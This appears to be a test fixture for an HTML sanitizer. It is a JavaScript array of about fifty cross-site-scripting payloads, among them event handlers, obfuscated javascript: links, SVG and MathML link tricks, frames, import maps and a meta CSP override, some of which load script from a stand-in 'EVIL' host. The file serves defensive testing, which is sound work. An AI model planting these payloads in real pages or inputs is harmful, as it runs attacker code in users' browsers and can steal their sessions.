// Markup that runs a script, each in another way.

export const scripts = [
  ['script', '<script>HURT</script>', 'script'],
  ['script from elsewhere', '<script src="EVIL/a.js"></script>', 'request'],
  [
    'module',
    '<script type="module">HURT</script><script type="module" src="EVIL/a.js"></script>',
    'script',
  ],
  ['script in svg', '<svg><script>HURT</script></svg>', 'script'],
  [
    'svg script, xlink',
    '<svg><script xlink:href="EVIL/a.js"></script><script href="data:text/javascript,HURT"></script></svg>',
    'script',
  ],
  [
    'import map',
    '<script type="importmap">{"imports":{"x":"EVIL/a.js"}}</script><script type="module">import "x"</script>',
    'request',
  ],
  [
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/speculated"]}]}</script><script>HURT</script>',
    'script',
  ],
  [
    'event handlers',
    '<img src=x onerror=HURT><svg onload=HURT></svg><body onload=HURT onpageshow=HURT>',
    'script',
  ],
  [
    'focus',
    '<a id=x tabindex=1 onfocus=HURT autofocus>x</a><input autofocus onfocus=HURT>',
    'script',
  ],
  ['details', '<details open ontoggle=HURT>x</details>', 'script'],
  [
    'popover',
    '<button popovertarget=pop>x</button><div id=pop popover onbeforetoggle=HURT ontoggle=HURT>y</div>',
    undefined,
  ],
  [
    'command',
    '<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=HURT ontoggle=HURT open>y</dialog>',
  ],
  [
    'animation events',
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=HURT></xss><i style="transition:outline 1s" ontransitionend=HURT tabindex=1></i>',
    'script',
  ],
  ['marquee', '<marquee onstart=HURT loop=1 width=0 onfinish=HURT>x</marquee>', undefined],
  [
    'content visibility',
    '<p oncontentvisibilityautostatechange=HURT style="display:block;content-visibility:auto">',
    'script',
  ],
  [
    'scroll',
    '<div style="height:50px;overflow:auto" onscroll=HURT onscrollend=HURT><a id=far style="display:block;margin-top:999px">x</a></div>',
    undefined,
  ],
  [
    'pointer',
    '<div style="position:fixed;inset:0" onpointerover=HURT onmouseover=HURT onclick=HURT>x</div>',
    'script',
  ],
  [
    'access key',
    '<a accesskey=x onclick=HURT>x</a><input type=hidden accesskey=x onclick=HURT>',
    undefined,
  ],
  ['javascript: link', '<a href="javascript:HURT" style="position:fixed;inset:0">go</a>', 'script'],
  [
    'javascript: link in pieces',
    '<a href="&#x6A;ava\tscr\nipt&colon;HURT" style="position:fixed;inset:0">go</a>',
    'script',
  ],
  [
    'javascript: link after control characters',
    '<a href="\x01\x02 javascript:HURT" style="position:fixed;inset:0">go</a>',
    'script',
  ],
  [
    'vbscript: and others',
    '<a href="vbscript:HURT" style="position:fixed;inset:0">go</a><a href="livescript:HURT">go</a><a href="feed:javascript:HURT">go</a>',
  ],
  [
    'data: link',
    '<a href="data:text/html,<script>HURT</script>" style="position:fixed;inset:0">go</a>',
    undefined,
  ],
  [
    'javascript: in area',
    '<img usemap="#m" style="width:300px;height:200px" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"><map name=m><area shape=default href="javascript:HURT"></map>',
    'script',
  ],
  [
    'javascript: form',
    '<form action="javascript:HURT"><button style="position:fixed;inset:0">x</button></form>',
    'script',
  ],
  [
    'javascript: formaction',
    '<form><button formaction="javascript:HURT" style="position:fixed;inset:0">x</button></form>',
    'script',
  ],
  ['isindex', '<isindex type=image src=1 onerror=HURT action="javascript:HURT">', undefined],
  [
    'svg link',
    '<svg style="position:fixed;inset:0"><a xlink:href="javascript:HURT"><rect width=1000 height=1000></rect></a></svg>',
    'script',
  ],
  [
    'svg animates a link',
    '<svg style="position:fixed;inset:0"><a><animate attributeName=href values="javascript:HURT"></animate><rect width=1000 height=1000></rect></a></svg>',
    'script',
  ],
  [
    'svg sets a link',
    '<svg style="position:fixed;inset:0"><a><set attributeName=href to="javascript:HURT"></set><rect width=1000 height=1000></rect></a></svg>',
    'script',
  ],
  ['svg events', '<svg><animate onbegin=HURT attributeName=x dur=1s></svg>', 'script'],
  [
    'svg use',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>HURT</script></svg>#x"></use></svg>',
  ],
  [
    'math link',
    '<math href="javascript:HURT" style="position:fixed;inset:0">CLICK</math><math><maction actiontype="statusline#x" xlink:href="javascript:HURT">x</maction></math>',
  ],
  ['frame with a document', '<iframe srcdoc="<script>top.HURT</script>"></iframe>', 'script'],
  ['frame with javascript:', '<iframe src="javascript:top.HURT"></iframe>', 'script'],
  [
    'frame with data:',
    '<iframe src="data:text/html,<script src=EVIL/data.js></script>"></iframe>',
    'request',
  ],
  [
    'object and embed',
    '<object data="data:text/html,<script src=EVIL/o.js></script>"></object><embed src="data:text/html,<script src=EVIL/e.js></script>">',
    'request',
  ],
  [
    'object, javascript:',
    '<object data="javascript:HURT"></object><embed src="javascript:HURT"><applet code="javascript:HURT"></applet>',
    undefined,
  ],
  [
    'shadow root',
    '<div><template shadowrootmode=open><img src=x onerror=HURT><slot></slot></template></div><img src=x onerror=HURT>',
    'script',
  ],
  [
    'custom element',
    '<button is="x-evil" onclick=HURT style="position:fixed;inset:0">x</button><x-evil onclick=HURT></x-evil>',
    'script',
  ],
  [
    'element of the host page',
    '<wafer-letter-view onclick=HURT></wafer-letter-view><wafer-portal link="EVIL/p#AAAA"></wafer-portal><img src=x onerror=HURT>',
    'script',
  ],
  [
    'portal',
    '<portal src="javascript:HURT"></portal><fencedframe src="EVIL/f"></fencedframe><img src=x onerror=HURT>',
    'script',
  ],
  [
    'expression',
    '<div style="width:expression(HURT);behavior:url(EVIL/x.htc);-moz-binding:url(EVIL/x.xml#a)">x</div>',
  ],
  [
    'policy of its own',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'"><script>HURT</script>',
    'script',
  ],
  [
    'refresh to javascript:',
    '<meta http-equiv=refresh content="0;url=javascript:HURT"><img src=x onerror=HURT>',
    'script',
  ],
  [
    'source that fails',
    '<video><source onerror=HURT src=x></video><audio src=x onerror=HURT></audio>',
    'script',
  ],
  [
    'stylesheet events',
    '<link rel=stylesheet href=x onerror=HURT><style onload=HURT></style>',
    'script',
  ],
];
